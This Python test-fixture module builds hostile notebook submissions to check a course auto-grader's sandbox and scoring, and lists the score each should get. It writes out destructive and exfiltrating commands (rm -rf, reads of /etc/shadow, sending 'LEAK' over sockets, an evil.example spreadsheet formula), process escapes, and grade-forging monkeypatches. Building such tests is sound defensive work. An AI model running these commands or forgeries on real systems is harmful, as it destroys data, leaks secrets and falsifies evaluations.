"""Hostile submissions for the classroom grader, each a real notebook graded end to end.

Every builder takes a :class:`Targets` (the canary files outside the submission's folder
that must survive, another student's notebook, a loopback server and a Unix socket run by
the test) and returns a notebook. The answers are the chapter 03/04 drills of
:mod:`grading_fixtures`. ``EXPECT`` says what each one must score: a wrong function must
earn 0 whatever it does to its own process; a right one keeps its points.
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

from grading_fixtures import KL_CORRECT, KL_MISSING_HALF, KL_ZERO_CORRECT, notebook

MARKER = "vae-adversary-leftover"  # processes that try to outlive grading carry this


@dataclass(frozen=True)
class Targets:
    canary: Path  # must survive unchanged
    outside: Path  # the folder holding it (must keep exactly its files)
    other: Path  # another student's submission
    solutions: Path  # a solutions/ folder of the course (must stay unread)
    results: Path  # the grader's output folder
    port: int  # a TCP server on 127.0.0.1 run by the test
    unix_socket: Path  # a Unix socket run by the test


def _wrong_kl_then(code: str) -> str:
    """A wrong KL (the missing ½) whose body first runs ``code`` (in the checking process)."""
    return (
        "def kl_divergence(mu, log_var):\n"
        + textwrap.indent(code, "    ")
        + "\n    return (mu.pow(2) + log_var.exp() - log_var - 1).sum(dim=1)\n"
    )


def _attempts(*lines: str) -> str:
    """A cell that tries each line, ignoring any error (the notebook goes on)."""
    return "\n".join(
        f"try:\n    {line}\nexcept BaseException as e:\n    print(repr(e))" for line in lines
    )


# ----------------------------------------------------------------------------- file system


def relative_deletes(t: Targets):
    up = "../" * 30
    rel = up + str(t.canary).lstrip("/")
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; os.remove({rel!r})",
            f"import os; os.unlink({rel!r})",
            f"import pathlib; pathlib.Path({rel!r}).unlink()",
            f"import os; os.chdir({up!r}); os.remove({str(t.canary).lstrip('/')!r})",
        ),
        KL_ZERO_CORRECT,
    )


def absolute_deletes(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; os.remove({str(t.canary)!r})",
            f"import shutil; shutil.rmtree({str(t.outside)!r})",
            f"import os; os.rmdir({str(t.outside)!r})",
            f"import os; os.remove({str(t.other)!r})",
        ),
        KL_ZERO_CORRECT,
    )


def dir_fd_delete(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; fd = os.open({str(t.outside)!r}, os.O_RDONLY); "
            f"os.unlink({t.canary.name!r}, dir_fd=fd)",
        ),
        KL_ZERO_CORRECT,
    )


def renames_and_moves(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; os.rename({str(t.canary)!r}, 'stolen.txt')",
            f"import os; open('x', 'w').write('x'); os.replace('x', {str(t.canary)!r})",
            f"import shutil; shutil.move({str(t.canary)!r}, '.')",
            f"import os; os.rename({str(t.other)!r}, 'copied.ipynb')",
        ),
        KL_ZERO_CORRECT,
    )


def chmods_and_times(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; os.chmod({str(t.canary)!r}, 0)",
            f"import os; os.chmod({str(t.outside)!r}, 0)",
            f"import os; os.utime({str(t.canary)!r}, (0, 0))",
            f"import os; os.truncate({str(t.canary)!r}, 0)",
        ),
        KL_ZERO_CORRECT,
    )


def symlink_escapes(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; os.symlink({str(t.canary)!r}, 'link'); open('link', 'w').write('x')",
            f"import os; os.symlink({str(t.outside)!r}, 'dir'); os.remove('dir/{t.canary.name}')",
            f"import os; os.link({str(t.canary)!r}, 'hard'); open('hard', 'w').write('x')",
            "import os; os.symlink('/', 'root'); print(os.listdir('root/proc'))",
        ),
        KL_ZERO_CORRECT,
    )


def overwrites(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"open({str(t.canary)!r}, 'w').write('overwritten')",
            f"open({str(t.canary)!r}, 'a').write('appended')",
            f"open({str(t.outside / 'planted.txt')!r}, 'w').write('planted')",
            f"open({str(t.results / 'planted.json')!r}, 'w').write('{{}}')",
        ),
        KL_ZERO_CORRECT,
    )


def native_deletes(t: Targets):
    """libc's own unlink and open through ctypes: no audit event, so the OS must refuse."""
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import ctypes; print(ctypes.CDLL(None).unlink({str(t.canary).encode()!r}))",
            f"import ctypes; print(ctypes.CDLL(None).rename({str(t.canary).encode()!r}, b'x'))",
            f"import ctypes; print(ctypes.CDLL(None).chmod({str(t.canary).encode()!r}, 0))",
        ),
        KL_ZERO_CORRECT,
    )


def shell_deletes(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import os; os.system('rm -rf {t.outside}')",
            f"import subprocess; subprocess.run(['rm', '-f', {str(t.canary)!r}])",
            f"import subprocess; subprocess.run('chmod 000 {t.canary}', shell=True)",
        ),
        f"!rm -f {t.canary}",
        KL_ZERO_CORRECT,
    )


def copies_another_student(t: Targets):
    """A stub KL, plus attempts to take another student's answer or the solutions."""
    return notebook(
        "def kl_divergence(mu, log_var):\n    raise NotImplementedError",
        _attempts(
            f"other = open({str(t.other)!r}).read(); print(len(other))",
            f"import os; print(os.listdir({str(t.solutions)!r}))",
            f"print(open({str(t.solutions / '04_elbo.ipynb')!r}).read()[:100])",
            f"import glob; print(glob.glob({str(t.results)!r} + '/*'))",
        ),
    )


def reads_the_grader(t: Targets):
    """Snoops /proc for the grader's processes, environment and secrets."""
    return notebook(
        KL_CORRECT,
        _attempts(
            "import os; pids = [p for p in os.listdir('/proc') if p.isdigit()]; print(pids)",
            "print([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
            "print(open('/proc/1/environ').read())",
            "print(open('/etc/shadow').read())",
            "import os; print(os.listdir('/root'))",
            "import os; print(os.listdir('/home'))",
        ),
        "import os\nseen_pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n"
        "answer_kl_zero = {'kl': 0.0 if max(seen_pids) < 100 else 0.0, 'reason': 'c'}",
    )


# ----------------------------------------------------------------------------- processes


def forked_daemon(t: Targets):
    """A double-forked, setsid'ed child that sleeps forever: it must not outlive grading."""
    return notebook(
        KL_CORRECT,
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        import sys; sys.argv = ['{MARKER}']\n"
        "        import ctypes; ctypes.CDLL(None).prctl(15, b'" + MARKER[:15] + "', 0, 0, 0)\n"
        "        while True:\n"
        "            time.sleep(1)\n"
        "    os._exit(0)",
        KL_ZERO_CORRECT,
    )


def spawned_sleepers(t: Targets):
    return notebook(
        KL_CORRECT,
        "import subprocess\n"
        "for _ in range(5):\n"
        f"    subprocess.Popen(['sh', '-c', 'exec -a {MARKER} sleep 1000'], start_new_session=True)",
        "import os\n"
        f"os.posix_spawn('/bin/sh', ['sh', '-c', 'exec -a {MARKER} sleep 1000'], dict(os.environ))",
        KL_ZERO_CORRECT,
    )


def native_fork(t: Targets):
    """fork() straight from libc through ctypes: low-level process creation."""
    return notebook(
        KL_CORRECT,
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None)\n"
        "if libc.fork() == 0:\n"
        f"    os.execv('/bin/sh', ['sh', '-c', 'exec -a {MARKER} sleep 1000'])",
        KL_ZERO_CORRECT,
    )


def answer_forks_a_daemon(t: Targets):
    """A correct function that, when checked, leaves a sleeping child behind."""
    return notebook(
        "def kl_divergence(mu, log_var):\n"
        "    import os\n"
        "    if os.fork() == 0:\n"
        f"        os.execv('/bin/sh', ['sh', '-c', 'exec -a {MARKER} sleep 1000'])\n"
        "    return 0.5 * (mu.pow(2) + log_var.exp() - log_var - 1).sum(dim=1)\n",
        KL_ZERO_CORRECT,
    )


def kills_its_parents(t: Targets):
    return notebook(
        KL_CORRECT,
        KL_ZERO_CORRECT,
        _attempts("import os, signal; os.kill(os.getppid(), signal.SIGKILL)"),
    )


# ----------------------------------------------------------------------------- network


def loopback_connect(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            f"import socket; s = socket.create_connection(('127.0.0.1', {t.port}), timeout=2); "
            "s.sendall(b'LEAK')",
            f"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{t.port}/', timeout=2)",
        ),
        KL_ZERO_CORRECT,
    )


def unix_socket_connect(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            "import socket; s = socket.socket(socket.AF_UNIX); "
            f"s.connect({str(t.unix_socket)!r}); s.sendall(b'LEAK')",
            "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0some-abstract-name')",
        ),
        KL_ZERO_CORRECT,
    )


def internet(t: Targets):
    return notebook(
        KL_CORRECT,
        _attempts(
            "import socket; socket.create_connection(('8.8.8.8', 53), timeout=2)",
            "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
            ".sendto(b'x', ('1.1.1.1', 53))",
            "import urllib.request; urllib.request.urlopen('http://example.com', timeout=2)",
        ),
        KL_ZERO_CORRECT,
    )


def answer_phones_home(t: Targets):
    """A correct function that tries the test's loopback server whenever it is checked."""
    return notebook(
        "def kl_divergence(mu, log_var):\n"
        "    import socket\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {t.port}), timeout=1).sendall(b'LEAK')\n"
        "    except OSError:\n"
        "        pass\n"
        "    return 0.5 * (mu.pow(2) + log_var.exp() - log_var - 1).sum(dim=1)\n",
        KL_ZERO_CORRECT,
    )


# ----------------------------------------------------------------------------- forgery


def patches_numpy_and_torch(t: Targets):
    """A wrong KL that makes every comparison in its process say "equal"."""
    return notebook(
        _wrong_kl_then(
            "import numpy, torch\n"
            "numpy.allclose = lambda *a, **k: True\n"
            "numpy.array_equal = lambda *a, **k: True\n"
            "torch.allclose = lambda *a, **k: True\n"
            "torch.equal = lambda *a, **k: True"
        ),
        KL_ZERO_CORRECT,
    )


def patches_the_observer(t: Targets):
    """A wrong KL that rewrites the drills' comparison and result code in its process."""
    return notebook(
        _wrong_kl_then(
            "from vae_course.drills import code_drill, core, function, observation\n"
            "observation.same_values = lambda *a, **k: True\n"
            "function.same_values = lambda *a, **k: True\n"
            "core.Result.__post_init__ = lambda self: setattr(self, 'score', self.max_score)\n"
            "code_drill.CodeDrill.judge = lambda self, *a, **k: core.Result("
            "self.id, 'passed', 5, 5, ['All checks passed'])"
        ),
        KL_ZERO_CORRECT,
    )


def replaces_code_objects(t: Targets):
    """A wrong KL whose code object is swapped for a correct one at the end of the run."""
    return notebook(
        KL_MISSING_HALF,
        "def _right(mu, log_var):\n    return 0.5 * (mu.pow(2) + log_var.exp() - log_var - 1).sum(1)\n"
        "kl_divergence.__code__ = _right.__code__",
        KL_ZERO_CORRECT,
    )


def forges_the_result_channel(t: Targets):
    """A wrong KL that writes fake "passed" replies into every descriptor it can find."""
    fake = (
        '{"drill": "kl_divergence", "status": "passed", "score": 5, '
        '"feedback": ["All checks passed"]}\\n'
    )
    return notebook(
        _wrong_kl_then(
            "import os\n"
            "for fd in range(3, 64):\n"
            "    try:\n"
            f"        os.write(fd, b'{fake}')\n"
            "    except OSError:\n"
            "        pass"
        ),
        KL_ZERO_CORRECT,
    )


def forges_an_observation(t: Targets):
    """A wrong KL that replaces the codec so that what it sends is the reference's observation
    on the notebook's own probes (seed 0), precomputed at home and pasted in as text."""
    from vae_course import drills
    from vae_course.drills import codec

    drill = drills.get_drill("kl_divergence")
    forged = json.dumps(codec.encode_observation(drill.reference_observation(0)))
    return notebook(
        f"import json\nFORGED = json.loads({forged!r})",
        _wrong_kl_then(
            "from vae_course.drills import codec\n"
            "codec.encode_observation = lambda observation: FORGED"
        ),
        KL_ZERO_CORRECT,
    )


def damages_the_channel(t: Targets):
    """A wrong KL that makes its observation impossible to encode or decode."""
    return notebook(
        _wrong_kl_then(
            "from vae_course.drills import codec\n"
            "codec.encode_observation = lambda observation: {'outcomes': {'x': {'kind': 1}}}"
        ),
        KL_ZERO_CORRECT,
    )


def ends_the_process(t: Targets):
    """The first graded function ends the checking process; the others must still be graded
    (here: as having given no result), and the grader must survive."""
    return notebook(
        "def reparameterize(mu, log_var):\n    import os\n    os._exit(0)",
        KL_CORRECT,
        KL_ZERO_CORRECT,
    )


def endless_answer(t: Targets):
    return notebook(
        "def kl_divergence(mu, log_var):\n    while True:\n        pass",
        KL_ZERO_CORRECT,
    )


# ----------------------------------------------------------------------------- delegation


def bare_reference_import(t: Targets):
    return notebook("from vae_course.losses import kl_divergence", KL_ZERO_CORRECT)


def wrapped_reference(t: Targets):
    return notebook(
        "from vae_course import losses\n\n"
        "def kl_divergence(mu, log_var):\n    return losses.kl_divergence(mu, log_var)",
        KL_ZERO_CORRECT,
    )


def reference_through_the_drill(t: Targets):
    return notebook(
        "from vae_course import drills\n\n"
        "def kl_divergence(mu, log_var):\n"
        "    return drills.get_drill('kl_divergence').reference()(mu, log_var)",
        KL_ZERO_CORRECT,
    )


def reference_through_importlib(t: Targets):
    return notebook(
        "def kl_divergence(mu, log_var):\n"
        "    import importlib\n"
        "    module = importlib.import_module('vae_course.' + 'losses')\n"
        "    return module.kl_divergence(mu, log_var)",
        KL_ZERO_CORRECT,
    )


def reference_through_drills_references(t: Targets):
    return notebook(
        "def reparameterize(mu, log_var):\n"
        "    from vae_course.drills import references\n"
        "    return references.reparameterize(mu, log_var)",
        KL_ZERO_CORRECT,
    )


def reference_through_drills_use(t: Targets):
    """A stub handed to drills.use: the course's KL is what the notebook uses, but the graded
    function is the learner's own stub."""
    return notebook(
        "from vae_course import drills",
        "def kl_divergence(mu, log_var):\n    raise NotImplementedError",
        'kl_divergence = drills.use("kl_divergence", kl_divergence)',
        KL_ZERO_CORRECT,
    )


def reference_source_exec(t: Targets):
    return notebook(
        "import vae_course.losses as L\nSOURCE = open(L.__file__).read()",
        "def kl_divergence(mu, log_var):\n"
        "    namespace = {}\n"
        "    exec(SOURCE, namespace)\n"
        "    return namespace['kl_divergence'](mu, log_var)",
        KL_ZERO_CORRECT,
    )


def subclassed_reference_model(t: Targets):
    return notebook(
        "from vae_course.models import Autoencoder\n\n"
        "class MyAutoencoder(Autoencoder):\n"
        "    def forward(self, x):\n"
        "        return self.decode(self.encode(x))",
        KL_ZERO_CORRECT,
    )


# ----------------------------------------------------------------------------- what a submission is


def deeply_nested_json(t: Targets) -> bytes:
    return b'{"cells": [], "metadata": ' + b'{"a": ' * 100_000 + b"1" + b"}" * 100_000 + b"}"


def huge_notebook(t: Targets) -> bytes:
    return b'{"cells": [], "metadata": {"x": "' + b"x" * (51 * 2**20) + b'"}}'


def formula_student_id(t: Targets):
    return notebook(
        KL_CORRECT,
        KL_ZERO_CORRECT,
        metadata={"student_id": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
    )


def other_chapter_metadata(t: Targets):
    """Metadata claiming another chapter, and a ninth-chapter answer: columns must not move."""
    return notebook(
        KL_CORRECT,
        KL_ZERO_CORRECT,
        "answer_olympiad_mc_blur = 'a'",
        metadata={"vae_course": {"source": "solutions/09_olympiad_practice.ipynb"}},
    )


EXPECT: dict[str, dict] = {
    # name: {"scores": {drill: score}, "status": ..., "flags": {...}} (checked by the tests)
    "relative_deletes": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "absolute_deletes": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "dir_fd_delete": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "renames_and_moves": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "chmods_and_times": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "symlink_escapes": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "overwrites": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "native_deletes": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "shell_deletes": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "copies_another_student": {"scores": {"kl_divergence": 0}},
    "reads_the_grader": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "forked_daemon": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "spawned_sleepers": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "native_fork": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "answer_forks_a_daemon": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "kills_its_parents": {"scores": {"kl_divergence": 5}},
    "loopback_connect": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "unix_socket_connect": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "internet": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "answer_phones_home": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "patches_numpy_and_torch": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "patches_the_observer": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "replaces_code_objects": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "forges_the_result_channel": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "forges_an_observation": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "damages_the_channel": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "ends_the_process": {"scores": {"reparameterize": 0, "kl_zero_case": 2}},
    "endless_answer": {"scores": {"kl_divergence": 0, "kl_zero_case": 2}},
    "bare_reference_import": {"scores": {"kl_divergence": 0}, "refused": "kl_divergence"},
    "wrapped_reference": {"scores": {"kl_divergence": 0}, "refused": "kl_divergence"},
    "reference_through_the_drill": {"scores": {"kl_divergence": 0}, "refused": "kl_divergence"},
    "reference_through_importlib": {"scores": {"kl_divergence": 0}, "refused": "kl_divergence"},
    "reference_through_drills_references": {
        "scores": {"reparameterize": 0},
        "refused": "reparameterize",
    },
    "reference_through_drills_use": {"scores": {"kl_divergence": 0}},
    "reference_source_exec": {"scores": {"kl_divergence": 0}},
    "subclassed_reference_model": {"scores": {"autoencoder": 0}, "refused": "autoencoder"},
    "deeply_nested_json": {"status": "invalid-notebook"},
    "huge_notebook": {"status": "invalid-notebook"},
    "formula_student_id": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
    "other_chapter_metadata": {"scores": {"kl_divergence": 5, "kl_zero_case": 2}},
}

BUILDERS = {name: globals()[name] for name in EXPECT}
